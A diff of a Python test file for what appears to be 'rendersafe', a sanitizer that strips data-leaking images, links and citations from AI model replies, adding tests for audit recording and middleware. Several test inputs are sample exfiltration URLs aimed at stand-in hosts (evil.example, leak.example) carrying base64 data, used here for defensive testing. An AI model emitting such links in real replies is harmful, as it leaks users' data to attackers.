@@ -14,6 +14,7 @@ import threading
 import time
 from datetime import UTC, datetime
 from pathlib import Path
+from typing import Any
 
 import httpx
 import pytest
@@ -21,7 +22,15 @@ import pytest
 from attacks import PLANTED, transcript_payloads
 from fixture_files import all_cases
 from rendersafe import Finding, Policy, Sanitizer
-from rendersafe.audit import AuditLog, AuditRecord, JsonlSink, LoggingSink, Source, url_hmac
+from rendersafe.audit import (
+    AuditLog,
+    AuditRecord,
+    JsonlSink,
+    LoggingSink,
+    Source,
+    policy_digest,
+    url_hmac,
+)
 from rendersafe.cli import run
 from rendersafe.errors import AuditError, PolicyError
 from rendersafe.middleware import RenderSafeMiddleware
@@ -42,9 +51,15 @@ def test_records_in_a_jsonl_file(tmp_path: Path) -> None:
     (record,) = lines(path)
     assert record["schema_version"] == 1
     assert record["event"] == "finding"
-    assert record["source"] == {"kind": "function", "method": None, "path": None,
-                                "request_id": None, "file": None, "line": None,
-                                "record_id": None}  # fmt: skip
+    assert record["source"] == {
+        "kind": "function",
+        "method": None,
+        "path": None,
+        "request_id": None,
+        "file": None,
+        "line": None,
+        "record_id": None,
+    }
     assert record["construct"] == "image"
     assert record["action"] == "removed"
     assert record["reasons"] == ["encoded_base64", "image_host_not_allowed"]
@@ -80,8 +95,9 @@ def test_no_planted_secret_reaches_the_audit_file(tmp_path: Path) -> None:
     replies = [case.input for case in all_cases() if not case.benign]
     for transcript in (ROOT / "fixtures" / "transcripts").glob("openai-*.jsonl"):
         for line in transcript.read_text().splitlines():
-            replies += [m["content"] for m in json.loads(line)["messages"]
-                        if m["role"] == "assistant"]  # fmt: skip
+            replies += [
+                m["content"] for m in json.loads(line)["messages"] if m["role"] == "assistant"
+            ]
     with AuditLog([JsonlSink(path)]) as audit:
         sanitizer = Sanitizer(audit=audit)
         for reply in replies:
@@ -106,9 +122,10 @@ def test_stream_findings_recorded(tmp_path: Path) -> None:
 
 
 def test_logging_sink(caplog: pytest.LogCaptureFixture) -> None:
-    with caplog.at_level(logging.INFO, logger="rendersafe.audit.test"), AuditLog(
-        [LoggingSink("rendersafe.audit.test")]
-    ) as audit:  # fmt: skip
+    with (
+        caplog.at_level(logging.INFO, logger="rendersafe.audit.test"),
+        AuditLog([LoggingSink("rendersafe.audit.test")]) as audit,
+    ):
         Sanitizer(audit=audit).run(IMG)
     (logged,) = [r for r in caplog.records if r.name == "rendersafe.audit.test"]
     assert json.loads(logged.getMessage())["construct"] == "image"
@@ -295,8 +312,11 @@ def test_crash_leaves_one_partial_line_that_summary_skips(tmp_path: Path) -> Non
 
 def test_summary_counts(tmp_path: Path) -> None:
     path = tmp_path / "audit.jsonl"
-    replies = [IMG, f"[a](https://leak.example/?q={'QUJDREVGR0hJSktMTU5PUFFSU1RVVldY' * 2})",
-               "![y](https://evil.example/y.png)"]  # fmt: skip
+    replies = [
+        IMG,
+        f"[a](https://leak.example/?q={'QUJDREVGR0hJSktMTU5PUFFSU1RVVldY' * 2})",
+        "![y](https://evil.example/y.png)",
+    ]
     with AuditLog([JsonlSink(path)]) as audit:
         for reply in replies:
             Sanitizer(audit=audit).run(reply)
@@ -417,3 +437,88 @@ def test_records_emitted_while_closing_are_written_or_refused() -> None:
         audit.close()
         thread.join()
         assert len(got) == accepted
+
+
+def test_recorder_computes_the_digest_once_and_shares_it() -> None:
+    policy = Policy()
+    audit = AuditLog([], key="k")
+    recorder = audit.recorder(Source(kind="function"), policy)
+    assert recorder.digest == policy_digest(policy)
+    line = Source(kind="batch", file="a.jsonl", line=3)
+    moved = recorder.at(line)
+    assert (moved.log, moved.digest, moved.emit) == (audit, recorder.digest, recorder.emit)
+    assert moved.source == line
+    assert recorder.source == Source(kind="function")  # `at` leaves the original alone
+    audit.close()
+
+
+def test_recorder_records_findings_and_events_as_the_log_does() -> None:
+    (finding,) = Sanitizer().run(IMG, context={"c": "1"}).findings
+    with AuditLog([], key="k", full_urls=True) as audit:
+        recorder = audit.recorder(Source(kind="function"), Policy())
+        made = recorder.finding_record(finding)
+        expected = audit.finding_record(finding, Source(kind="function"), recorder.digest)
+        event = recorder.event_record("disconnect", "gone")
+    keep = {"event_id", "time"}
+    assert made.model_dump(exclude=keep) == expected.model_dump(exclude=keep)
+    assert made.url == finding.full_url  # full_urls: the log's setting
+    assert made.url_hmac == url_hmac(b"k", str(finding.full_url))
+    assert (event.event, event.message, event.policy_digest) == (
+        "disconnect",
+        "gone",
+        made.policy_digest,
+    )
+
+
+def test_recorder_emits_to_the_log_or_collects() -> None:
+    written: list[AuditRecord] = []
+    (finding,) = Sanitizer().run(IMG).findings
+    with AuditLog([written.append]) as audit:
+        recorder = audit.recorder(Source(kind="function"), Policy())
+        recorder.finding(finding)
+        pending: list[AuditRecord] = []
+        collecting = recorder.at(Source(kind="middleware"), emit=pending.append)
+        collecting.finding(finding)
+        collecting.event("error", "boom")
+        audit.flush()
+        assert [r.source.kind for r in written] == ["function"]
+    assert [(r.event, r.source.kind) for r in pending] == [
+        ("finding", "middleware"),
+        ("error", "middleware"),
+    ]
+
+
+class _NoSyncEmit(AuditLog):
+    """A log whose blocking `emit` must not be called (the middleware runs on the loop)."""
+
+    def emit(self, record: AuditRecord) -> None:
+        raise AssertionError("emit called on the event loop")
+
+
+def test_middleware_records_each_finding_once_with_the_request_source() -> None:
+    url = "https://evil.example/c?d=SGVsbG8gd29ybGQgdGhpcyBpcyBzZWNyZXQ="
+    citation = {"type": "url_citation", "url": url}
+    part = {"type": "output_text", "text": f"a {IMG}", "annotations": [citation]}
+    body = json.dumps({"object": "response", "output": [{"type": "message", "content": [part]}]})
+
+    async def app(scope: object, receive: object, send: Any) -> None:
+        headers = [(b"content-type", b"application/json")]
+        await send({"type": "http.response.start", "status": 200, "headers": headers})
+        await send({"type": "http.response.body", "body": body.encode()})
+
+    records: list[AuditRecord] = []
+    audit = _NoSyncEmit([records.append])
+    middleware = RenderSafeMiddleware(app, policy=Policy(), audit=audit)
+    assert middleware.sanitizer.audit is audit
+
+    async def get() -> httpx.Response:
+        transport = httpx.ASGITransport(middleware)
+        async with httpx.AsyncClient(transport=transport, base_url="http://test") as http:
+            return await http.post("/v1/responses", headers={"x-request-id": "r1"})
+
+    response = asyncio.run(get())
+    audit.close()
+    assert "evil.example" not in response.text
+    assert [r.construct for r in records] == ["image", "citation"]
+    source = Source(kind="middleware", method="POST", path="/v1/responses", request_id="r1")
+    assert {r.source for r in records} == {source}
